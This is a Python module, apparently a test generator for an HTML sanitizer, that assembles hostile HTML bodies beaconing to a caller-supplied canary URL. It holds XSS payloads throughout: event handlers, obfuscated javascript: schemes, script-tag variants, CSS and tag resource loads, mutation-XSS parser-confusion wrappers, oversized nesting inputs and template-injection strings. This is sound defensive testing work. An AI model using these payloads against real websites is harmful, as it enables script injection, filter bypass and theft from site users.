"""Hostile HTML of the known classes, made of parts: each body asks a canary for something or runs a script."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.ran=1;top.ran=1;document.title='ran';top.document.title='ran';alert(1);top.location='{canary}/run'"
_EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onend", "onanimationstart"),
    *("onpageshow", "onscroll", "oncontentvisibilityautostatechange", "onpointerenter", "onresize", "onmessage"),
)
_HOLDERS = ("img src=x", "body", "svg", "details open", "input autofocus", "video src=x", "div style=animation:x")
_SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:"),
    *("&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:"),
    *("vbscript:", "livescript:", "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD4x,"),
    *("view-source:javascript:", "feed:javascript:", "blob:", "filesystem:", "//javascript:", "\\javascript:"),
)
_TAKES = (
    '<a href="{url}">x</a>',
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button autofocus>x</button></form>',
    '<object data="{url}"></object>',
    '<meta http-equiv=refresh content="0;url={url}">',
    "<svg><a xlink:href='{url}'><text>x</text></a></svg>",
    '<math><mtext href="{url}">x</mtext></math>',
    '<base href="{url}">',
)
LOADS = (
    *('<img src="{0}">', '<img srcset="{0} 1x, {0} 2x">', '<image src="{0}">', '<input type=image src="{0}">'),
    *('<body background="{0}">', '<table background="{0}"><tr><td background="{0}">x</table>', '<video poster="{0}">'),
    *('<video><source src="{0}"></video>', '<audio src="{0}" autoplay>', '<track src="{0}">', '<embed src="{0}">'),
    *('<link rel=stylesheet href="{0}">', '<link rel=prefetch href="{0}">', '<link rel=preconnect href="{0}">'),
    *('<link rel=dns-prefetch href="{0}">', '<link rel=icon href="{0}">', '<link rel=modulepreload href="{0}">'),
    *('<link rel=import href="{0}">', '<link rel=manifest href="{0}">', '<object data="{0}"></object>'),
    *('<iframe src="{0}"></iframe>', '<frameset><frame src="{0}"></frameset>', '<portal src="{0}"></portal>'),
    *('<style>@import "{0}";</style>', "<style>@import url({0});</style>", "<style>*{{background:url({0})}}</style>"),
    *("<style>@font-face{{font-family:f;src:url({0})}} *{{font-family:f}}</style>", '<p style="background:url({0})">x'),
    *(
        '<p style="list-style:url({0})">x',
        '<p style="background:image-set(url({0}) 1x)">x',
        "<p style='cursor:url({0}),auto'>x",
    ),
    *(
        "<p style='b&#97;ckground:u\\72l({0})'>x",
        '<div style="content:url({0})">x',
        "<li style=\"border-image:url('{0}')\">x",
    ),
    *('<script src="{0}"></script>', "<SCRIPT/SRC={0}></SCRIPT>", '<svg><image href="{0}"/></svg>'),
    *('<svg><use href="{0}#x"/></svg>', '<svg><script href="{0}"/></svg>', '<svg><feImage href="{0}"/></svg>'),
    *('<svg><style>@import "{0}";</style></svg>', '<math><mglyph src="{0}"></math>', '<bgsound src="{0}">'),
    *(
        '<meta http-equiv=refresh content="0;url={0}">',
        "<meta http-equiv=Set-Cookie content=a=b>",
        '<base href="{0}/">',
    ),
    *(
        '<applet archive="{0}"></applet>',
        '<a ping="{0}" href="#">x</a>',
        '<q cite="{0}">x</q>',
        '<html manifest="{0}">',
    ),
    *(
        '<?xml-stylesheet href="{0}"?><p>x',
        '<!DOCTYPE html SYSTEM "{0}"><p>x',
        '<picture><source srcset="{0}"><img></picture>',
    ),
    *('<iframe srcdoc="&lt;img src={0}&gt;"></iframe>', "<iframe srcdoc=\"<script src='{0}'></script>\"></iframe>"),
    *("<form action='{0}'><input name=a><button autofocus>x</button></form>", '<button formaction="{0}">x</button>'),
    *('<isindex action="{0}">', '<input type=submit formaction="{0}">', '<img dynsrc="{0}" lowsrc="{0}">'),
)
_SCRIPTS = (
    *("<script>{run}</script>", "<ScRiPt>{run}</sCrIpT >", "<script\n>{run}</script\n>", "<script/x>{run}</script>"),
    *(
        "<script>{run}",
        "<<script>{run}//<</script>",
        "<script type=module>{run}</script>",
        "\x00<scr\x00ipt>{run}</script>",
    ),
    *(
        "<svg><script>{run}</script></svg>",
        "<math><script>{run}</script></math>",
        "<script>{run}</script",
        "<style><script>{run}</script>",
    ),
)
# What one parser takes for text and the next for an element.
_WRAPS = (
    *('<noscript><p title="</noscript>{0}"></noscript>', "<template>{0}</template>", "<template><template>{0}"),
    *(
        "<table>{0}</table>",
        "<table><td>{0}<table>{0}",
        "<select>{0}</select>",
        "<select><template>{0}</template></select>",
    ),
    *(
        "<math><mtext><table><mglyph><style><!--</style>{0}",
        '<svg></p><style><a id="</style>{0}">',
        "<svg><style>{0}</style></svg>",
    ),
    *(
        "<math><annotation-xml encoding=text/html>{0}</annotation-xml></math>",
        "<svg><foreignObject>{0}</foreignObject></svg>",
    ),
    *(
        "<svg><desc><p>{0}</desc></svg>",
        "<svg><title>{0}</title></svg>",
        "<form><math><mtext></form><form><mglyph><style></math>{0}",
    ),
    *(
        "<!--><p>{0}-->",
        "<!--!>{0}<!-->",
        "<!-- --!>{0}-->",
        "<!--{0}",
        "<!-{0}->",
        "<![CDATA[{0}]]>",
        "<?x {0} ?>",
        "</ {0}>",
    ),
    *(
        "<p title='{0}",
        '<p title="">{0}<p "',
        "<p title=`>{0}`>",
        "<xmp>{0}</xmp>{0}",
        "<plaintext>{0}",
        "<noembed>{0}</noembed>{0}",
    ),
    *("<textarea>{0}</textarea>{0}", "<title>{0}</title>{0}", "<iframe>{0}</iframe>{0}", "<noframes>{0}</noframes>{0}"),
    *(
        "</body></html>{0}",
        "</iframe>{0}",
        '"></iframe>{0}',
        "&quot;&gt;&lt;/iframe&gt;{0}",
        "'>{0}",
        "]]>{0}",
        "</td></tr></table>{0}",
    ),
    *(
        "<b>" * 190 + "{0}",
        "<div>" * 5_000 + "{0}",
        "<b></x>" * 5_000 + "{0}",
        "x" * 600_000 + "{0}",
        "\x00{0}\x00",
        "<a " + "x=1 " * 3_000 + ">{0}",
    ),
)


def bodies(canary: str) -> Iterator[str]:
    """Yield the bodies; whatever any of them loads or visits comes to the canary."""
    run = RUN.format(canary=canary)
    numbers = iter(range(100_000))

    def url() -> str:
        return f"{canary}/{next(numbers)}"

    yield from (script.format(run=run) for script in _SCRIPTS)
    for number, (event, holder) in enumerate(product(_EVENTS, _HOLDERS)):
        if number % 3 == 0:
            yield f'<{holder} {event}="{run}">x'
    for number, (scheme, take) in enumerate(product(_SCHEMES, _TAKES)):
        if number % 3:
            yield take.replace("{url}", scheme.replace("{run}", run) + run)
    yield from (load.format(url()) for load in LOADS)
    yield from (load.format(f"//{url().partition('//')[2]}") for load in LOADS)
    for number, wrap in enumerate(_WRAPS):
        picture = f'<img src={url()} onerror="{run}"><script>{run}</script>'
        style = f"<style>@import '{url()}';</style><svg onload=\"{run}\"><image href={url()}>"
        yield wrap.replace("{0}", style if number % 2 else picture)


# Words that stand where a letter, the seeker or a file's name may put them.
WORDS = (
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=1>',
    "'><svg onload=window.ran=1>",
    "</title><script>window.ran=1</script>",
    "</textarea></option></select><script>window.ran=1</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    "javascript:window.ran=1",
    "\u202eevil\u2066 &lt;script&gt; &amp;",
)
